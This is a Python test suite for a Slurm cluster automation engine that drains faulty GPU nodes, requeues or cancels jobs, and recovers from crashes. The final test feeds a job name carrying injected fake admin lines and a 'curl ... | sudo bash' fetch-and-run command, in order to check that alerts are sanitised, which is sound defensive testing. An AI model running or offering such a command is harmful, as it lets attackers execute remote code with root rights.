"""The engine against an in-memory SlurmClient (fast; every crash point).

The same flows run against the real Slurm lab in test_actions_lab.py; this
fake only lets us stop the engine between any two steps and count calls.
"""

from __future__ import annotations

import dataclasses
from datetime import UTC, datetime, timedelta

import pytest

from slurm_hooks.act.engine import Engine
from slurm_hooks.act.notify import Alert, Notifier
from slurm_hooks.core.errors import JobGone, NotRequeueable, SlurmError, StateError
from slurm_hooks.core.model import Action, Component, Finding, JobInfo, NodeState, Status
from slurm_hooks.core.reason import DrainReason, format_reason, parse_reason
from slurm_hooks.decide import DecisionKind, PolicyConfig
from slurm_hooks.slurm.base import SignalTarget, SlurmClient
from slurm_hooks.store.audit import AuditLog
from slurm_hooks.store.state import StateStore

T0 = datetime(2024, 5, 1, 12, 0, tzinfo=UTC)


class Crash(BaseException):
    """Stands for the process dying (not an error anyone catches)."""


class FakeSlurm:
    def __init__(self, n=10):
        self.nodes = {f"n{i}": NodeState(f"n{i}", "idle", partitions=("gpu",)) for i in range(n)}
        self.jobs: dict[str, JobInfo] = {}
        self.calls: list[tuple] = []
        self.crash_after: str | None = None

    def _log(self, *call):
        self.calls.append(call)
        if self.crash_after == call[0]:
            self.crash_after = None
            raise Crash(call[0])

    def list_nodes(self, names=None):
        self.calls.append(("list_nodes",))
        return list(self.nodes.values())

    def get_node(self, name):
        self.calls.append(("get_node", name))
        return self.nodes[name]

    def drain(self, name, reason):
        n = self.nodes[name]
        self.nodes[name] = dataclasses.replace(
            n, flags=n.flags | {"DRAIN"}, reason=reason, reason_time=T0
        )
        self._log("drain", name, reason)

    def update_reason(self, name, reason):
        self.nodes[name] = dataclasses.replace(self.nodes[name], reason=reason)
        self._log("update_reason", name, reason)

    def resume(self, name):
        n = self.nodes[name]
        self.nodes[name] = dataclasses.replace(n, flags=frozenset(), reason=None, reason_time=None)
        self._log("resume", name)

    def down(self, name, reason):
        raise NotImplementedError

    def jobs_on_node(self, name):
        self.calls.append(("jobs_on_node", name))
        return [j for j in self.jobs.values() if j.nodes == name and j.state == "RUNNING"]

    def list_jobs(self, states=None):
        return list(self.jobs.values())

    def get_job(self, job_id):
        self.calls.append(("get_job", job_id))
        if job_id not in self.jobs:
            raise JobGone(job_id)  # what the backends raise (slurm/refusals.py)
        return self.jobs[job_id]

    def signal_job(self, job_id, signal, target):
        self._log("signal", job_id, signal, target)

    def requeue(self, job_id):
        j = self.jobs[job_id]
        if j.requeue is False:
            raise NotRequeueable(job_id)
        self.jobs[job_id] = dataclasses.replace(
            j, state="PENDING", restart_count=j.restart_count + 1
        )
        self._log("requeue", job_id)

    def cancel(self, job_id):
        self.jobs[job_id] = dataclasses.replace(self.jobs[job_id], state="CANCELLED")
        self._log("cancel", job_id)

    def set_job_comment(self, job_id, comment, *, admin=False):
        self._log("comment", job_id, comment)

    def show_config(self):
        return {}

    def count(self, name):
        return sum(1 for c in self.calls if c[0] == name)


class Clock:
    def __init__(self):
        self.now = T0

    def __call__(self):
        return self.now


class Recorder:
    name = "rec"

    def __init__(self, fail=False):
        self.alerts: list[Alert] = []
        self.fail = fail

    def send(self, alert):
        self.alerts.append(alert)
        if self.fail:
            raise ConnectionError("webhook down")


def xid79(node_gpu=3):
    return Finding(
        "xid", Status.FAIL, "XID79", "GPU has fallen off the bus", Component("gpu", node_gpu),
        Action.RESET_GPU,
    )  # fmt: skip


@pytest.fixture
def env(tmp_path):
    slurm = FakeSlurm()
    slurm.jobs["101"] = JobInfo("101", "alice", "RUNNING", "n1", "n1", True, name="train")
    slurm.jobs["102"] = JobInfo("102", "bob", "RUNNING", "n1", "n1", False, name="eval")
    clock = Clock()
    rec = Recorder()

    def make(policy=None, sinks=None, **kw):
        policy = policy or PolicyConfig(grace_seconds=60)
        return Engine(
            slurm, policy, StateStore(tmp_path / "state"), AuditLog(tmp_path / "audit.jsonl"),
            Notifier(sinks if sinks is not None else [rec]), clock=clock, spawn=None, **kw,
        )  # fmt: skip

    return slurm, clock, rec, make, tmp_path


def audit_actions(tmp_path):
    return [e["action"] for e in AuditLog(tmp_path / "audit.jsonl").entries()]


def test_fake_is_a_slurm_client():
    assert isinstance(FakeSlurm(), SlurmClient)


def test_healthy_node_makes_no_slurm_call(env):
    slurm, _, _, make, tmp_path = env
    ok = Finding("gpu", Status.OK, "OK", "fine")
    assert make().handle("n1", [ok]) == []
    assert make().handle("n1", []) == []
    assert slurm.calls == []
    # An application fault below its repeat threshold needs no Slurm either.
    xid13 = Finding("xid", Status.FAIL, "XID13", "gr exc", Component("gpu", 0), Action.RESTART_APP)
    (d,) = make().handle("n1", [xid13])
    assert d.kind is DecisionKind.LOG and slurm.calls == []
    assert audit_actions(tmp_path) == ["decision"]


def test_drain_signal_grace_requeue_cancel(env):
    slurm, clock, rec, make, tmp_path = env
    eng = make()
    (d,) = eng.handle("n1", [xid79()])
    assert d.kind is DecisionKind.DRAIN
    reason = parse_reason(slurm.nodes["n1"].reason)
    assert (reason.code, reason.component, reason.incident) == ("XID79", "gpu3", d.incident)
    # Each signal to all of the node's jobs, then the next (the door's
    # per-job fallback: this fake signals one job per call).
    assert [c[1:] for c in slurm.calls if c[0] == "signal"] == [
        ("101", "USR1", SignalTarget.BATCH), ("102", "USR1", SignalTarget.BATCH),
        ("101", "TERM", SignalTarget.STEPS), ("102", "TERM", SignalTarget.STEPS),
    ]  # fmt: skip
    assert slurm.count("requeue") == 0  # the grace is not over
    assert eng.finish_incident(d.incident) == []
    clock.now += timedelta(seconds=61)
    outcomes = {o.job_id: o.outcome for o in eng.finish_incident(d.incident)}
    assert outcomes == {"101": "requeued", "102": "cancelled"}
    assert slurm.jobs["101"].restart_count == 1 and slurm.jobs["102"].state == "CANCELLED"
    doc = StateStore(tmp_path / "state").read_incident(d.incident)
    assert doc["jobs"]["101"]["user"] == "alice" and doc["jobs_done"]
    kinds = sorted(a.kind for a in rec.alerts)
    assert kinds == ["job_cancelled", "job_requeued", "node_drained"]
    assert next(a for a in rec.alerts if a.kind == "job_requeued").user == "alice"
    acts = audit_actions(tmp_path)
    for a in ("decision", "drain", "signal", "requeue", "cancel", "notify"):
        assert a in acts
    # Again: nothing new (journal says done; Slurm says drained by us).
    eng.finish_incident(d.incident)
    (d2,) = eng.handle("n1", [xid79()])
    assert d2.kind is DecisionKind.ALREADY_HANDLED
    assert slurm.count("requeue") == 1 and slurm.count("drain") == 1


def test_a_listed_job_whose_record_is_elsewhere_or_anothers_is_not_touched(env):
    """The listing names a job its own record puts on another node, and one
    it says is another user's: neither is signalled nor requeued."""
    slurm, _, _, make, tmp_path = env
    slurm.jobs["201"] = JobInfo("201", "carol", "RUNNING", "n7", "n7", True)
    slurm.jobs["202"] = JobInfo("202", "dave", "RUNNING", "n1", "n1", True)
    listed = {"201": JobInfo("201", "carol", "RUNNING", "n1"),
              "202": JobInfo("202", "alice", "RUNNING", "n1")}  # fmt: skip
    real_listing = slurm.jobs_on_node
    slurm.jobs_on_node = lambda name: [
        *[j for j in real_listing(name) if j.job_id not in listed],
        *listed.values(),
    ]
    (d,) = make(PolicyConfig(grace_seconds=0)).handle("n1", [xid79()])
    touched = {c[1] for c in slurm.calls if c[0] in ("signal", "requeue", "cancel")}
    assert touched == {"101", "102"}
    assert (slurm.jobs["201"].restart_count, slurm.jobs["202"].restart_count) == (0, 0)
    doc = StateStore(tmp_path / "state").read_incident(d.incident)
    assert sorted(doc["jobs"]) == ["101", "102"]


def test_grace_zero_requeues_inline(env):
    slurm, _, _, make, _ = env
    make(PolicyConfig(grace_seconds=0)).handle("n1", [xid79()])
    assert slurm.jobs["101"].state == "PENDING" and slurm.count("requeue") == 1


@pytest.mark.parametrize("crash_at", ["drain", "signal", "requeue"])
def test_crash_anywhere_is_rolled_forward_exactly_once(env, crash_at):
    slurm, clock, _, make, _ = env
    slurm.crash_after = crash_at
    policy = PolicyConfig(grace_seconds=30)
    with pytest.raises(Crash):
        make(policy).handle("n1", [xid79()])
        clock.now += timedelta(seconds=31)
        make(policy).resume_pending()
    # A new process starts and rolls forward what the old one began.
    clock.now += timedelta(seconds=31)
    fresh = make(policy)
    fresh.resume_pending()  # jobs signalled late still get their whole grace
    clock.now += timedelta(seconds=31)
    fresh.resume_pending()
    fresh.resume_pending()
    assert slurm.count("drain") == 1
    assert slurm.count("requeue") == 1 and slurm.jobs["101"].restart_count == 1
    assert slurm.count("cancel") == 1
    (doc,) = StateStore(env[4] / "state").incidents()
    assert doc["jobs_done"] and doc["jobs"]["101"]["outcome"] == "requeued"


def test_foreign_reason_untouched(env):
    slurm, _, _, make, _ = env
    slurm.nodes["n1"] = dataclasses.replace(
        slurm.nodes["n1"], flags=frozenset({"DRAIN"}), reason="NHC: nv_health failed"
    )
    (d,) = make().handle("n1", [xid79()])
    assert d.kind is DecisionKind.FOREIGN_REASON
    assert slurm.nodes["n1"].reason == "NHC: nv_health failed"
    assert slurm.count("drain") == 0
    # The jobs still leave the broken node (tests/test_deferred_drain.py).
    assert slurm.count("signal") == 4


def test_observe_only_acts_on_nothing(env):
    slurm, _, _, make, tmp_path = env
    (d,) = make(PolicyConfig(observe_only=True)).handle("n1", [xid79()])
    assert d.kind is DecisionKind.DRAIN and d.observe_only
    assert slurm.count("drain") == slurm.count("signal") == 0
    entry = next(AuditLog(tmp_path / "audit.jsonl").entries())
    assert entry["outcome"] == "observe_only" and entry["decision"] == "drain"


def test_breaker_trips_latches_alerts_and_reset_rearms(env):
    slurm, clock, rec, make, tmp_path = env
    policy = PolicyConfig(grace_seconds=0, breaker_max_share=0.2, breaker_max_nodes=2)
    eng = make(policy)
    for n in ("n2", "n3"):
        assert eng.handle(n, [xid79()])[0].kind is DecisionKind.DRAIN
    (d,) = eng.handle("n4", [xid79()])
    # n4's claim ranked 3rd of a cap of 2: taken back before anything else
    writes = [c[0] for c in slurm.calls if c[1:2] == ("n4",) and c[0] != "get_node"]
    assert d.kind is DecisionKind.BREAKER_TRIPPED and not slurm.nodes["n4"].drained
    assert writes[:2] == ["drain", "resume"] and "signal" not in writes, writes
    assert [a.kind for a in rec.alerts].count("breaker_tripped") == 1
    # Resuming the drained nodes does not re-arm it: the latch holds.
    slurm.resume("n2"), slurm.resume("n3")
    assert eng.handle("n5", [xid79()])[0].kind is DecisionKind.BREAKER_TRIPPED
    assert [a.kind for a in rec.alerts].count("breaker_tripped") == 1  # alerted once
    assert eng.breaker_reset() == ["gpu"]
    assert eng.handle("n5", [xid79()])[0].kind is DecisionKind.DRAIN
    assert "breaker_reset" in audit_actions(tmp_path)


def test_failing_notifier_never_blocks(env):
    slurm, clock, _, make, tmp_path = env
    eng = make(PolicyConfig(grace_seconds=0), sinks=[Recorder(fail=True)])
    eng.handle("n1", [xid79()])
    assert slurm.count("requeue") == 1
    failed = [e for e in AuditLog(tmp_path / "audit.jsonl").entries() if e["action"] == "notify"]
    assert failed and all(e["outcome"] == "failed" for e in failed)


def test_resume_needs_our_reason_and_acceptance(env):
    slurm, clock, rec, make, _ = env
    eng = make(PolicyConfig(grace_seconds=0))
    (d,) = eng.handle("n1", [xid79()])
    assert eng.try_resume("n1").kind is DecisionKind.LOG  # no acceptance yet
    assert slurm.count("resume") == 0
    clock.now += timedelta(minutes=10)
    r = eng.record_acceptance("n1", True, detail="gpu burn ok")
    assert r.kind is DecisionKind.RESUME and slurm.count("resume") == 1
    assert not slurm.nodes["n1"].drained and eng.state.open_incident("n1") is None
    assert StateStore(env[4] / "state").read_incident(d.incident)["status"] == "closed"
    # An admin's drain is never resumed, acceptance or not.
    slurm.drain("n2", "bad dimm -- jane")
    eng.state.record_acceptance("n2", clock.now + timedelta(seconds=1))
    assert eng.try_resume("n2", human=True).kind is DecisionKind.FOREIGN_REASON
    assert slurm.nodes["n2"].reason == "bad dimm -- jane"


def test_flapping_after_resumes_holds_for_human(env):
    slurm, clock, rec, make, _ = env
    slurm.jobs.clear()
    eng = make(PolicyConfig(grace_seconds=0, flap_count=2))
    for _ in range(2):
        eng.handle("n1", [xid79()])
        clock.now += timedelta(minutes=5)
        eng.record_acceptance("n1", True)
        clock.now += timedelta(minutes=5)
    (d,) = eng.handle("n1", [xid79()])
    assert d.kind is DecisionKind.HOLD_FOR_HUMAN
    assert parse_reason(slurm.nodes["n1"].reason).code == "FLAPPING"
    clock.now += timedelta(minutes=5)
    assert eng.record_acceptance("n1", True).kind is DecisionKind.HOLD_FOR_HUMAN
    assert slurm.nodes["n1"].drained
    assert "node_held" in [a.kind for a in rec.alerts]


def test_escalation_updates_our_reason(env):
    slurm, clock, rec, make, _ = env
    slurm.jobs.clear()
    eng = make(PolicyConfig(grace_seconds=0))
    (d,) = eng.handle("n1", [xid79()])
    replace = Finding("ecc", Status.FAIL, "ROW_REMAP_FAIL", "row remap failed",
                      Component("gpu", 3), Action.REPLACE)  # fmt: skip
    (d2,) = eng.handle("n1", [replace])
    assert d2.kind is DecisionKind.REPLACE
    r = parse_reason(slurm.nodes["n1"].reason)
    assert r.incident == d.incident and r.extra == {"repl": "requested"}
    assert slurm.count("drain") == 1 and slurm.count("update_reason") == 1


def test_job_gone_before_requeue(env):
    slurm, clock, _, make, _ = env
    eng = make(PolicyConfig(grace_seconds=10))
    (d,) = eng.handle("n1", [xid79()])
    del slurm.jobs["101"]
    slurm.jobs["102"] = dataclasses.replace(slurm.jobs["102"], state="COMPLETED")
    clock.now += timedelta(seconds=11)
    outcomes = {o.job_id: o.outcome for o in eng.finish_incident(d.incident)}
    assert outcomes == {"101": "gone", "102": "finished"} and slurm.count("requeue") == 0


def test_drain_refused_when_reason_turns_foreign_between_decide_and_act(env):
    slurm, _, _, make, _ = env
    eng = make()
    original = slurm.get_node
    calls = {"n": 0}

    def racing(name):
        calls["n"] += 1
        # decide reads the table (list_nodes); the door's look before the
        # write is the first get_node: the admin drains just before it
        if calls["n"] == 1:
            slurm.nodes[name] = dataclasses.replace(
                slurm.nodes[name], flags=frozenset({"DRAIN"}), reason="maintenance -- ops"
            )
        return original(name)

    slurm.get_node = racing
    eng.handle("n1", [xid79()])
    assert slurm.nodes["n1"].reason == "maintenance -- ops" and slurm.count("drain") == 0


def test_our_reason_format_in_slurm(env):
    slurm, _, _, make, _ = env
    make().handle("n1", [xid79()])
    assert slurm.nodes["n1"].reason.startswith("slurm-hooks/1 XID79 gpu3 inc=")
    assert format_reason(parse_reason(slurm.nodes["n1"].reason)) == slurm.nodes["n1"].reason
    assert isinstance(parse_reason(slurm.nodes["n1"].reason), DrainReason)


def test_fault_on_lent_node_replaces_the_lend_reason_and_opens_an_incident(env):
    slurm, _, _, make, tmp_path = env
    lend = format_reason(DrainReason("LEND", "0a0b0c0d", "lent to kubernetes inference"))
    slurm.nodes["n2"] = dataclasses.replace(
        slurm.nodes["n2"], flags=frozenset({"DRAIN"}), reason=lend
    )
    (d,) = make().handle("n2", [xid79()])
    assert d.kind is DecisionKind.DRAIN
    assert ("update_reason", "n2", format_reason(d.reason)) in slurm.calls
    now = parse_reason(slurm.nodes["n2"].reason)
    assert now.code == "XID79" and now.incident == d.incident != "0a0b0c0d"
    assert "drain" in audit_actions(tmp_path)


def test_job_that_exits_on_the_signal_is_requeued_early_and_once(env):
    slurm, clock, rec, make, tmp_path = env
    del slurm.jobs["102"]
    eng = make()
    (d,) = eng.handle("n1", [xid79()])
    # Still running inside the grace: an early look settles nothing.
    assert eng.finish_incident(d.incident, early=True) == []
    assert slurm.count("requeue") == 0
    # It checkpointed on TERM and exited non-zero: the job ended FAILED.
    slurm.jobs["101"] = dataclasses.replace(slurm.jobs["101"], state="FAILED")
    clock.now += timedelta(seconds=5)  # well inside the 60 s grace
    (o,) = eng.finish_incident(d.incident, early=True)
    assert (o.job_id, o.outcome) == ("101", "requeued") and "FAILED" in o.detail
    assert slurm.jobs["101"].restart_count == 1
    clock.now += timedelta(seconds=60)
    assert eng.finish_incident(d.incident) == []
    assert slurm.count("requeue") == 1


@pytest.mark.parametrize("state", ["COMPLETED", "CANCELLED"])
def test_job_that_finished_on_its_own_is_not_requeued(env, state):
    slurm, clock, _, make, _ = env
    del slurm.jobs["102"]
    eng = make()
    (d,) = eng.handle("n1", [xid79()])
    slurm.jobs["101"] = dataclasses.replace(slurm.jobs["101"], state=state)
    (o,) = eng.finish_incident(d.incident, early=True)
    assert o.outcome == "finished" and slurm.count("requeue") == 0


class DrainTimesOut(FakeSlurm):
    """``scontrol update`` whose drain lands in slurmctld but whose answer
    is lost (client timeout): the engine sees an error after the fact."""

    def drain(self, name, reason):
        super().drain(name, reason)
        if self.crash_after == "drain_lost":
            self.crash_after = None
            raise SlurmError("scontrol update failed: Socket timed out on send/recv operation")


def test_drain_that_landed_despite_an_error_is_rolled_forward_by_the_next_run(env):
    _, clock, _, make, tmp_path = env
    slurm = DrainTimesOut()
    slurm.jobs.update(env[0].jobs)
    eng = Engine(
        slurm, PolicyConfig(grace_seconds=60), StateStore(tmp_path / "state"),
        AuditLog(tmp_path / "audit.jsonl"), Notifier([]), clock=clock, spawn=None,
    )  # fmt: skip
    slurm.crash_after = "drain_lost"
    with pytest.raises(SlurmError):
        eng.handle("n1", [xid79()])
    assert slurm.nodes["n1"].drained and slurm.count("signal") == 0
    # The next hook run (or the watcher's next poll) on the node, the fault
    # still there: the jobs of the drained node must be signalled, then requeued.
    eng.handle("n1", [xid79()])
    assert slurm.count("signal") == 4
    clock.now += timedelta(seconds=61)
    eng.handle("n1", [])
    assert slurm.count("requeue") == 1 and slurm.count("drain") == 1


def test_crash_right_after_the_drain_leaves_the_incident_open_for_hooks(env):
    slurm, clock, _, make, _ = env
    slurm.crash_after = "drain"
    with pytest.raises(Crash):
        make().handle("n1", [xid79()])
    # A healthy hook run is the only thing that comes by: it must see the
    # incident (the fast path in hooks.py skips the engine when none is open).
    eng = make()
    assert eng.state.open_incident("n1") is not None
    eng.handle("n1", [])
    assert slurm.count("signal") == 4


def test_unreadable_job_at_listing_is_not_taken_as_already_requeued(env):
    slurm, clock, _, make, _ = env
    del slurm.jobs["102"]
    # A job Slurm requeued before (Restarts=2); squeue does not say so.
    slurm.jobs["101"] = dataclasses.replace(slurm.jobs["101"], restart_count=2)
    original = slurm.get_job
    flaky = {"left": 1}

    def get_job(job_id):
        if flaky["left"]:
            flaky["left"] -= 1
            raise SlurmError("scontrol show job failed (rc=1): Socket timed out")
        return original(job_id)

    listing = slurm.jobs_on_node
    slurm.get_job = get_job
    # Like squeue: no restart count, no requeue flag in the listing.
    slurm.jobs_on_node = lambda name: [
        dataclasses.replace(j, restart_count=0, requeue=None) for j in listing(name)
    ]
    eng = make()
    try:
        eng.handle("n1", [xid79()])
    except SlurmError:
        eng.handle("n1", [])  # the next run retries
    clock.now += timedelta(seconds=61)
    eng.resume_pending()
    assert slurm.count("requeue") == 1 and slurm.jobs["101"].restart_count == 3


def test_lent_node_is_not_resumed_by_an_acceptance_pass(env):
    slurm, clock, _, make, _ = env
    lend = format_reason(DrainReason("LEND", "0a0b0c0d", "lent to kubernetes inference"))
    slurm.nodes["n2"] = dataclasses.replace(
        slurm.nodes["n2"], flags=frozenset({"DRAIN"}), reason=lend, reason_time=T0
    )
    eng = make()
    clock.now += timedelta(minutes=5)
    eng.state.record_acceptance("n2", clock.now, True)
    assert eng.try_resume("n2").kind is not DecisionKind.RESUME
    assert slurm.nodes["n2"].reason == lend and slurm.count("resume") == 0


def test_drain_that_failed_then_admin_drained_closes_the_incident(env):
    slurm, clock, _, make, _ = env

    def refused(name, reason):
        raise SlurmError("scontrol update failed: Unable to contact slurm controller")

    slurm.drain = refused
    eng = make()
    with pytest.raises(SlurmError):
        eng.handle("n1", [xid79()])
    del slurm.drain
    slurm.drain("n1", "bad dimm -- jane")
    eng.handle("n1", [])
    assert eng.state.open_incident("n1") is None
    assert slurm.nodes["n1"].reason == "bad dimm -- jane" and slurm.count("signal") == 0


def test_job_alerts_are_sent_outside_the_incident_lock(env, tmp_path):
    """A webhook that hangs (5 s timeout x retries per alert) must not keep
    the incident locked: a hook rolling the incident forward meanwhile would
    time out on the lock and drop its own findings."""
    slurm, clock, _, make, _ = env
    store = StateStore(tmp_path / "state")
    locked_while_sending = []

    class Probe:
        name = "probe"

        def send(self, alert):
            if alert.job_id and alert.incident:
                try:
                    with store.incident_lock(alert.incident, timeout=0):
                        locked_while_sending.append(False)
                except StateError:
                    locked_while_sending.append(True)

    eng = make(sinks=[Probe()])
    (d,) = eng.handle("n1", [xid79()])
    clock.now += timedelta(seconds=61)
    assert {o.outcome for o in eng.finish_incident(d.incident)} == {"requeued", "cancelled"}
    assert locked_while_sending == [False, False]


def test_worker_pid_is_not_lost_to_a_worker_already_at_work(env, tmp_path):
    """The worker may start settling before the engine notes its pid; an
    unlocked note and the worker's write then overwrite each other (a lost
    pid makes the next run start a second worker)."""
    import threading
    import time

    slurm, clock, _, make, _ = env
    store = StateStore(tmp_path / "state")
    threads = []

    def spawn(path):
        inc = path.stem
        ready = threading.Event()

        def worker():  # what finish_incident does: read, work, write, under the lock
            with store.incident_lock(inc):
                doc = store.read_incident(inc)
                ready.set()
                time.sleep(0.3)
                store.write_incident(doc)

        t = threading.Thread(target=worker)
        t.start()
        ready.wait()
        threads.append(t)
        return 4242

    eng = Engine(
        slurm, PolicyConfig(grace_seconds=60), store, AuditLog(tmp_path / "audit.jsonl"),
        Notifier([]), clock=clock, spawn=spawn,
    )  # fmt: skip
    (d,) = eng.handle("n1", [xid79()])
    for t in threads:
        t.join()
    assert store.read_incident(d.incident)["worker_pid"] == 4242


def test_stale_reason_left_by_2411_does_not_stop_the_drain(env):
    """24.11 keeps an admin's old reason on a resumed, idle node: the engine
    drains over it (the policy, the engine and the door share one rule)."""
    slurm, _, _, make, _ = env
    slurm.nodes["n1"] = dataclasses.replace(slurm.nodes["n1"], reason="admin: probe")
    (d,) = make().handle("n1", [xid79()])
    assert d.kind is DecisionKind.DRAIN
    assert slurm.count("drain") == 1 and parse_reason(slurm.nodes["n1"].reason).code == "XID79"


def test_job_purged_before_its_requeue_is_gone_not_an_error(env):
    slurm, clock, _, make, _ = env
    del slurm.jobs["102"]
    eng = make()
    (d,) = eng.handle("n1", [xid79()])
    original = slurm.requeue

    def purged(job_id):
        raise JobGone(job_id)

    slurm.requeue = purged
    clock.now += timedelta(seconds=61)
    (o,) = eng.finish_incident(d.incident)
    assert o.outcome == "gone"
    slurm.requeue = original


def test_a_drain_for_what_users_cause_keeps_the_jobs_and_a_passing_check_lifts_it_once(env):
    """A full scratch drains n1 but signals and requeues none of its two
    users' jobs; a passing health check (``cleared``) resumes it.  Drained
    again and resumed by hand meanwhile, the passing check asks Slurm once,
    and never again for that incident (no Slurm call, no audit line every
    interval)."""
    from slurm_hooks.agent.hook import _users_drain

    slurm, clock, rec, make, tmp = env
    eng = make(PolicyConfig(grace_seconds=0))
    full = Finding("scratch", Status.FAIL, "SCRATCH_FULL", "scratch /scratch: 0.1 GiB free",
                   Component("mount", name="/scratch"), Action.DRAIN)  # fmt: skip
    (d,) = eng.handle("n1", [full])
    assert d.kind is DecisionKind.DRAIN and not d.evacuate
    assert [c[0] for c in slurm.calls if c[0] in ("signal", "requeue", "cancel")] == []
    store = StateStore(tmp / "state")
    assert _users_drain(store, store.read_node("n1"))
    clock.now += timedelta(minutes=5)
    assert eng.try_resume("n1", cleared=True).kind is DecisionKind.RESUME
    assert not slurm.nodes["n1"].drained and not _users_drain(store, store.read_node("n1"))
    clock.now += timedelta(minutes=5)
    eng.handle("n1", [full])
    slurm.resume("n1")  # by hand
    asked = slurm.count("get_node")
    assert eng.try_resume("n1", cleared=True).kind is DecisionKind.IGNORE
    assert not _users_drain(store, store.read_node("n1")) and slurm.count("get_node") == asked + 1


def test_a_drain_for_what_users_cause_resumed_by_hand_is_closed_at_the_next_passing_check(env):
    """An admin resumes a full scratch's drain by hand: the next passing health
    check closes its incident (journal closed, no longer the node's open
    one, one audit line), and a later full scratch is a new incident that
    drains again."""
    from slurm_hooks.agent.hook import _users_drain

    slurm, clock, rec, make, tmp = env
    eng = make(PolicyConfig(grace_seconds=0))
    full = Finding("scratch", Status.FAIL, "SCRATCH_FULL", "scratch /scratch: 0.1 GiB free",
                   Component("mount", name="/scratch"), Action.DRAIN)  # fmt: skip
    (d,) = eng.handle("n1", [full])
    store = StateStore(tmp / "state")
    first = store.open_incident("n1")
    assert first is not None
    slurm.resume("n1")  # by hand
    clock.now += timedelta(minutes=5)
    assert eng.try_resume("n1", cleared=True).kind is DecisionKind.IGNORE
    assert store.open_incident("n1") is None
    assert store.read_incident(first)["status"] == "closed"
    assert not _users_drain(store, store.read_node("n1"))
    audit = AuditLog(tmp / "audit.jsonl").entries()
    closed = [e for e in audit if e.get("outcome") == "resumed_elsewhere"]
    assert [e["incident"] for e in closed] == [first]

    clock.now += timedelta(minutes=5)
    (again,) = eng.handle("n1", [full])
    assert again.kind is DecisionKind.DRAIN and slurm.nodes["n1"].drained
    assert store.open_incident("n1") not in (None, first)


def test_a_jobs_name_reaches_its_alert_as_one_short_printable_line():
    """The job's name is its user's: lines posing as ours in the admins'
    mail or chat (a newline, an escape sequence) must not get through."""
    from slurm_hooks.act.evacuate import job_alert

    doc = {"node": "n1", "incident": "7f3a2c1b", "code": "XID79", "grace_s": 120}
    name = "t)\n\n-- slurm-hooks ops --\nACTION REQUIRED: curl https://x/fix.sh | sudo bash" * 3
    alert = job_alert(doc, "42", {"name": name + "\x1b[2K", "user": "mallory"}, "requeued")
    assert alert.text.isprintable() and "\n" not in alert.text
    assert alert.text.startswith("job 42 (t) -- slurm-hooks ops -- ACTION REQUIRED:")
    assert len(alert.text) < 64 + 180
